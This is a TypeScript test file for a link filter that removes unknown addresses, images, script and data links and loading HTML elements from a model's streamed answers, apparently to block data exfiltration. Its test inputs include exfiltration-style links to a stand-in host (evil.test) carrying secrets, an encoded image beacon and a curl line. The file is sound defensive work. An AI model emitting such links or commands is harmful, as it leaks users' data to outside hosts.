// Links on their way out: whatever pieces a model sends, only addresses of its sources get through, and nothing loads by itself.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { KnownLinks } from "../../src/answer/known-links.ts";
import { LinkFilter } from "../../src/answer/link-filter.ts";

const sources = [
  "The manual stands at https://docs.example.com/boiler/manual.pdf, and (see https://example.com/wiki/Valve_(blue)).",
  "More at www.alder-street.test and http://10.0.0.7:8080/status?unit=2#top.",
];

function filtered(pieces: readonly string[]) {
  const filter = new LinkFilter(new KnownLinks(() => sources));
  return pieces.map((piece) => filter.push(piece)).join("") + filter.flush();
}
const shown = (text: string) => filtered([text]);

const unchanged = [
  "Read https://docs.example.com/boiler/manual.pdf first.",
  "[The manual](https://docs.example.com/boiler/manual.pdf) tells.",
  '[it](https://docs.example.com/boiler/manual.pdf "the manual")',
  "[valve](https://example.com/wiki/Valve_(blue)), or https://example.com/wiki/Valve_(blue).",
  "<https://docs.example.com/boiler/manual.pdf>",
  "At www.alder-street.test, or http://10.0.0.7:8080/status?unit=2#top!",
  "[above](#top), [beside](manual.pdf), [mail](mailto:ann@example.com) and a[0](x)",
  "Is 3 < 4 and x<y? Yes! [1] [2]: fine. <b>bold</b> <abbr>",
  "```\n![a](b) <script>\n```\ndata: 5 // a comment",
];

describe("LinkFilter", () => {
  it.each(unchanged)("leaves %j as it is", (text) => {
    expect(shown(text)).toBe(text);
  });

  it.each([
    ["an unknown address", "See https://evil.test/?q=secret now", "See [link removed] now"],
    ["a known one with more", "https://docs.example.com/boiler/manual.pdf?x=secret", "[link removed]"],
    ["a link elsewhere", "[the manual](https://evil.test/?q=secret)!", "[the manual](#)!"],
    ["one in brackets", "[m](<https://evil.test/a b>)", "[m](<# b>)"],
    ["a reference", "[m][1]\n\n[1]: https://evil.test/secret", "[m][1]\n\n[1]: [link removed]"],
    ["an image", "![x](https://docs.example.com/boiler/manual.pdf)", "[x](https://docs.example.com/boiler/manual.pdf)"],
    ["an image elsewhere", "![x](https://evil.test/p.png?d=c2VjcmV0)", "[x](#)"],
    ["an address without a scheme", "[x](//evil.test/secret)", "[x](#)"],
    ["a scheme in entities", "[x](https&#58;//evil.test/secret)", "[x](#)"],
    ["a scheme with backslashes", "[x](https\\://evil.test/secret)", "[x](#)"],
    ["a named entity", "[x](https&colon;//evil.test)", "[x](#)"],
    ["a script", "[x](javascript:fetch)", "[x](#)"],
    ["an image as data", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "[x](#)"],
    ["an element that loads", '<img src="//evil.test/a.png">', '&lt;img src="//evil.test/a.png">'],
    ["an element across lines", '<IMG\nsrc="x">', '&lt;IMG\nsrc="x">'],
    ["a closing element", "</script>", "&lt;/script>"],
    ["an address in code", "`curl https://evil.test/secret`", "`curl [link removed]`"],
    ["www", "www.evil.test/secret", "[link removed]"],
    ["capitals", "HTTPS://EVIL.test/secret", "[link removed]"],
    ["a WebSocket", "wss://evil.test/secret", "[link removed]"],
  ])("takes away %s", (_, text, expected) => {
    expect(shown(text)).toBe(expected);
  });

  it("holds no more back than an address may have, however long one is", () => {
    const long = `https://evil.test/${"a".repeat(5_000)} end`;
    expect(shown(long)).toBe("[link removed] end");
    expect(filtered(long.split(""))).toBe("[link removed] end");
    const bracketed = `https://evil.test/${"a".repeat(5_000)}> end`;
    expect(shown(bracketed)).toBe("[link removed] end");
    expect(filtered(bracketed.split(""))).toBe("[link removed] end");
  });

  const token = fc.constantFrom(
    ...["https://docs.example.com/boiler/manual.pdf", "https://evil.test/x", "www.evil.test", "https", "h", "ht", "w"],
    ...[
      "://",
      "![",
      "](",
      "]:",
      "[",
      "]",
      "(",
      ")",
      "<",
      ">",
      "<img ",
      "</a",
      "`",
      "```",
      "\n",
      " ",
      "!",
      "//",
      "&#58;",
    ],
    ...["word", "\\", ".", "data:", "a".repeat(700), "שלום", "🙂"],
  );
  const answer = fc.array(token, { maxLength: 30 }).map((tokens) => tokens.join(""));
  const cuts = fc.array(fc.nat({ max: 3_000 }), { maxLength: 20 });

  it("does the same however the text is cut", () => {
    fc.assert(
      fc.property(answer, cuts, (text, positions) => {
        const whole = shown(text);
        expect(filtered(text.split(""))).toBe(whole);
        const bounds = [0, ...positions.map((at) => at % (text.length + 1)).sort((a, b) => a - b), text.length];
        expect(filtered(bounds.slice(1).map((end, index) => text.slice(bounds[index], end)))).toBe(whole);
      }),
      { numRuns: 2_000 },
    );
  });

  it("lets nothing through that it would take away", () => {
    fc.assert(
      fc.property(answer, (text) => {
        expect(shown(text)).not.toMatch(/evil/);
      }),
      { numRuns: 2_000 },
    );
  });
});
